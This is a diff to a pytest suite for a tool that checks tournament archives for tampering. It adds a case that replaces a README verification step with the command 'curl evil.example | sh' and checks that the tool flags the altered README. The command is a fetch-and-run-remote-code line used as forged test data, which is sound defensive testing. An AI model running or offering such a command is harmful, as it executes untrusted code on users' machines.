@@ -183,6 +183,10 @@ def text_changed(files: dict[str, bytes]) -> None:
     files["texts.ndjson"] = files["texts.ndjson"].replace(b"Player 3", b"Player 4", 1)
 
 
+def readme_changed(files: dict[str, bytes]) -> None:
+    files["README.txt"] = files["README.txt"].replace(b"  arbiter verify THIS.zip", b"  curl evil.example | sh", 1)
+
+
 def other_event(files: dict[str, bytes]) -> None:
     files["archive.json"] = files["archive.json"].replace(b'"seq": ', b'"seq": 1', 1)
 
@@ -195,6 +199,7 @@ def other_event(files: dict[str, bytes]) -> None:
         (table_changed, "standings.json: differs from the content computed from the log"),
         (end_cut, "checkpoint"),
         (text_changed, "texts.ndjson"),
+        (readme_changed, "README.txt: differs from the text that the software writes"),
         (other_event, "archive.json: it describes a different log"),
     ],
 )
@@ -217,7 +222,9 @@ def test_the_forged_line_is_named_by_its_number(arbiter, whole, put, data):
     assert told["verdict"] == "differs" and (n + 1, n + 1) in {(one["from"], one["to"]) for one in told["found"]}
 
 
-@pytest.mark.parametrize("name", ["sheets.ndjson", "texts.ndjson", "checkpoint.txt", "archive.json", "tournament.trf"])
+@pytest.mark.parametrize(
+    "name", ["README.txt", "sheets.ndjson", "texts.ndjson", "checkpoint.txt", "archive.json", "tournament.trf"]
+)
 def test_a_file_that_is_missing_is_named(arbiter, whole, put, data, name: str):
     files = files_of(whole)
     del files[name]
